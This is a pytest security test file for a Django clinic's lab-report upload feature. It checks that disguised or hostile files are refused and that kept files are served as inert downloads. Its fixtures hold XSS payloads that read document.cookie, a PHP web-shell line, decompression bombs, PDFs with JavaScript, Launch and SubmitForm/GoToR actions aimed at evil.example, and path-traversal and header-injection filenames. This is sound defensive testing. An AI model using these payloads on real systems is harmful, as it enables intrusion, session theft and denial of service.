"""ATK-12: files that are not what they seem are refused in words; what is kept never runs in a browser."""

import io
import time
import zlib

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from clinic import clock, documents
from clinic.actions import required_tests as actions
from clinic.models import Document
from clinic.refusal import Refused
from clinic.uploads import cleaned
from tests.people import by_link, people, signed_in
from tests.standing import standing

pytestmark = pytest.mark.django_db

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
PHP = b"<?php system($_GET['c']); ?>"


p = standing(people)


@pytest.fixture
def order(p):
    day = clock.now().astimezone(p.site.zone).date()
    return actions.ask_for_tests(
        patient=p.patient, site=p.site, codes=["liver"], due_on=day, by=p.prescriber
    )[0]  # fmt: skip


def picture(kind="PNG", size=(60, 40), **how):
    out = io.BytesIO()
    Image.new("RGB", size, "navy").save(out, kind, **how)
    return out.getvalue()


def pdf(body=b"", head=b"%PDF-1.7\n", tail=b"\n%%EOF\n"):
    return head + b"1 0 obj\n<< /Type /Catalog >>\nendobj\n" + body + tail


def packed(body, dictionary=b"<< /Type /ObjStm /Filter /FlateDecode >>"):
    return b"2 0 obj\n" + dictionary + b"\nstream\n" + zlib.compress(body) + b"\nendstream\nendobj\n"


def with_words(words):
    info = PngInfo()
    info.add_text("Comment", words.decode("latin-1"))
    return picture(pnginfo=info)


def huge_png():
    """A picture of 30,000 by 30,000 dots in a few hundred bytes: 2.7 GB when it is opened."""

    def chunk(name, data):
        return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")

    head = (30_000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
REFUSED = {
    "page.html": (HTML, "neither a PDF nor a picture"),
    "page.html named as a picture.png": (HTML, "neither a PDF nor a picture"),
    "drawing.svg": (SVG, "neither a PDF nor a picture"),
    "shell.phtml": (PHP, "neither a PDF nor a picture"),
    "shell.php.jpg": (PHP, "neither a PDF nor a picture"),
    "animation.gif": (picture("GIF"), "neither a PDF nor a picture"),
    "archive.zip": (b"PK\x03\x04" + b"\0" * 200, "neither a PDF nor a picture"),
    "program.exe": (b"MZ" + b"\0" * 200, "neither a PDF nor a picture"),
    "nothing.pdf": (b"", "empty"),
    "only-magic.png": (b"\x89PNG\r\n\x1a\n" + HTML, "damaged"),
    "only-magic.jpg": (b"\xff\xd8\xff\xe0" + HTML, "damaged"),
    "cut.jpg": (picture("JPEG", (400, 400))[:-700], "damaged"),
    "bomb.png": (huge_png(), "more dots than any camera"),
    "html-in-front.pdf": (HTML + pdf(), "neither a PDF nor a picture"),
    "html-behind.pdf": (pdf() + HTML, "something behind its end"),
    "zip-behind.pdf": (pdf() + b"PK\x03\x04" + b"\0" * 2000, "something behind its end"),
    "no-end.pdf": (pdf(tail=b""), "damaged"),
    "no-version.pdf": (pdf(head=b"%PDF-\n"), "damaged"),
    "script.pdf": (pdf(JAVASCRIPT), "holds a script"),
    "script-spelled-otherwise.pdf": (pdf(JAVASCRIPT.replace(b"JavaScript", b"J#61vaScr#69pt")), "holds a script"),
    "script-packed.pdf": (pdf(packed(JAVASCRIPT)), "holds a script"),
    "launch.pdf": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "holds a script"),
    "file-inside.pdf": (pdf(b"<< /Names << /EmbeddedFiles 3 0 R >> >>"), "holds a script"),
    "form-that-sends.pdf": (pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), "holds a script"),
    "other-computer.pdf": (pdf(b"<< /S /GoToR /F (//evil.example/x) >>"), "holds a script"),
    "locked.pdf": (pdf(b"trailer << /Encrypt 5 0 R >>"), "locked"),
    "packed-twice.pdf": (
        pdf(packed(JAVASCRIPT, b"<< /Type /Obj#53tm /Filter [/ASCIIHexDecode /FlateDecode] >>")),
        "can&#x27;t be checked",
    ),
    "bomb.pdf": (pdf(packed(b"\0" * 120_000_000, b"<< /Filter /FlateDecode >>")), "can&#x27;t be checked"),
    "many-parts.pdf": (pdf(b"stream\n" * 30_000), "can&#x27;t be checked"),
}


def send(client, order, content, name="report.pdf", media_type="application/pdf"):
    file = SimpleUploadedFile(name, content, content_type=media_type)
    return client.post(reverse("clinic:test-attach", args=[order.pk]), {"file": file})


@pytest.mark.parametrize("name", REFUSED)
def test_atk_12_what_is_not_a_report_is_refused_in_words(p, order, name):
    content, words = REFUSED[name]
    begun = time.process_time()
    response = send(signed_in(p.nurse), order, content, name)
    assert response.status_code == 422
    assert words in response.content.decode()
    assert not Document.objects.exists()
    assert time.process_time() - begun < 10, "a refusal must not cost the clinic its afternoon"


@pytest.mark.parametrize("size", [documents.MOST_BYTES + 1, documents.MOST_BYTES * 2])
def test_atk_12_a_huge_file_is_refused_with_its_limit(p, order, size):
    response = send(signed_in(p.nurse), order, b"%PDF-1.7\n" + b"\0" * (size - 9))
    assert response.status_code == 422
    assert "larger than 10 MB" in response.content.decode()
    assert not Document.objects.exists()


def test_atk_12_a_request_beyond_any_file_is_not_read(p, order):
    response = send(signed_in(p.nurse), order, b"\0" * (documents.MOST_BYTES * 3 + 1))
    assert response.status_code in (400, 413)
    assert not Document.objects.exists()


def test_atk_12_files_never_touch_a_disk_on_their_way_in():
    assert settings.FILE_UPLOAD_HANDLERS == ["clinic.uploads.handler.LimitedHandler"]
    assert settings.DATA_UPLOAD_MAX_NUMBER_FILES == 5


def kept(p, order, content, name="report.pdf", media_type="application/pdf"):
    response = send(signed_in(p.nurse), order, content, name, media_type)
    assert response.status_code == 302
    return Document.objects.get()


@pytest.mark.parametrize(
    "content",
    [
        with_words(SCRIPT),
        picture() + SCRIPT,
        picture("JPEG", comment=SCRIPT),
        picture("JPEG") + b"PK\x03\x04" + SCRIPT,
        picture("JPEG", exif=b"Exif\0\0" + SCRIPT),
    ],
    ids=["text in a PNG", "behind a PNG", "comment in a JPEG", "archive behind a JPEG", "EXIF of a JPEG"],
)
def test_atk_12_what_rides_on_a_picture_is_left_outside(p, order, content):
    document = kept(p, order, content, "photo.jpg", "text/html")
    assert b"alert" not in bytes(document.content)
    assert b"PK\x03\x04" not in bytes(document.content)
    assert document.media_type in ("image/png", "image/jpeg")
    assert Image.open(io.BytesIO(bytes(document.content))).size == (60, 40)


def test_atk_12_where_a_photo_was_taken_is_left_outside(p, order):
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (40.0, 42.0, 46.0)}
    exif[0x0112] = 6
    document = kept(p, order, picture("JPEG", exif=exif.tobytes()), "photo.jpg", "image/jpeg")
    stored = Image.open(io.BytesIO(bytes(document.content)))
    assert dict(stored.getexif()) == {}
    assert stored.size == (40, 60), "upright, as the camera meant it"


NAMES = [
    "../../../etc/passwd.pdf",
    "..\\..\\boot.ini.pdf",
    "/etc/cron.d/evil.pdf",
    "report.pdf\0.html",
    "report.html",
    'a"; filename="evil.html',
    "line\r\nSet-Cookie: a=b.pdf",
    "\u202efdp.exe",
    "x" * 200 + ".pdf",
    "<img src=x onerror=alert(1)>.pdf",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_atk_12_the_name_a_file_came_with_is_not_used_for_anything(p, order, name):
    document = kept(p, order, pdf(), name)
    assert document.title == "Liver panel, report"
    response = signed_in(p.nurse).get(reverse("clinic:document-show", args=[document.pk]))
    disposition = response.headers["Content-Disposition"]
    assert disposition == f'attachment; filename="Liver-panel-report-{document.made_at:%Y-%m-%d}.pdf"'
    page = signed_in(p.nurse).get(reverse("clinic:test-show", args=[order.pk])).content.decode()
    assert "onerror" not in page


@pytest.mark.parametrize("query", ["", "?show=1"])
def test_atk_12_a_kept_pdf_leaves_as_a_download_that_runs_nothing(p, order, query):
    document = kept(p, order, pdf())
    address = reverse("clinic:document-show", args=[document.pk])
    response = signed_in(p.nurse).get(address + query)
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "no-store"
    policy = response.headers["Content-Security-Policy"]
    assert "sandbox" in policy
    assert "default-src 'none'" in policy
    assert "allow-scripts" not in policy


def test_atk_12_a_kept_picture_is_what_it_says_and_runs_nothing(p, order):
    document = kept(p, order, picture(), "photo.png", "image/svg+xml")
    response = signed_in(p.nurse).get(reverse("clinic:document-show", args=[document.pk]) + "?show=1")
    assert response.headers["Content-Type"] == "image/png"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]


def test_atk_12_a_report_is_asked_for_directly_only_by_those_it_is_for(p, order):
    document = kept(p, order, pdf())
    address = reverse("clinic:document-show", args=[document.pk])
    for user, status in ((p.colleague, 200), (p.front_desk, 404), (p.away["nurse"], 404), (p.clinic_admin, 403)):
        assert signed_in(user).get(address).status_code == status
    assert signed_in().get(address).status_code == 302
    client, _ = by_link(p.patient, p.site, "documents")
    assert client.get(reverse("clinic:document-mine", args=[document.pk])).status_code == 404
    for path in (f"/media/{document.pk}.pdf", f"/static/{document.pk}.pdf", f"/documents/../{document.pk}"):
        assert signed_in(p.nurse).get(path).status_code == 404


def test_atk_12_only_clinicians_of_the_site_attach(p, order):
    for user, status in ((p.front_desk, 403), (p.clinic_admin, 403), (p.away["nurse"], 404)):
        assert send(signed_in(user), order, pdf()).status_code == status
    assert send(signed_in(), order, pdf()).status_code == 302
    assert not Document.objects.exists()


def test_atk_12_honest_reports_are_kept_as_they_are(p, order):
    from clinic.pdf import pdf as printed

    content = printed("<h1>Sample Lab</h1><p>ALT 31 U/L</p>")
    assert bytes(kept(p, order, content).content) == content
    assert cleaned(picture("JPEG", (5000, 3000))).media_type == "image/jpeg"
    assert Image.open(io.BytesIO(cleaned(picture("JPEG", (5000, 3000))).content)).size == (4000, 2400)
    see_through = io.BytesIO()
    Image.new("RGBA", (4, 4), (0, 0, 0, 0)).save(see_through, "PNG")
    assert Image.open(io.BytesIO(cleaned(see_through.getvalue()).content)).getpixel((0, 0)) == (255, 255, 255)
    with pytest.raises(Refused):
        cleaned(content, size=documents.MOST_BYTES + 1)
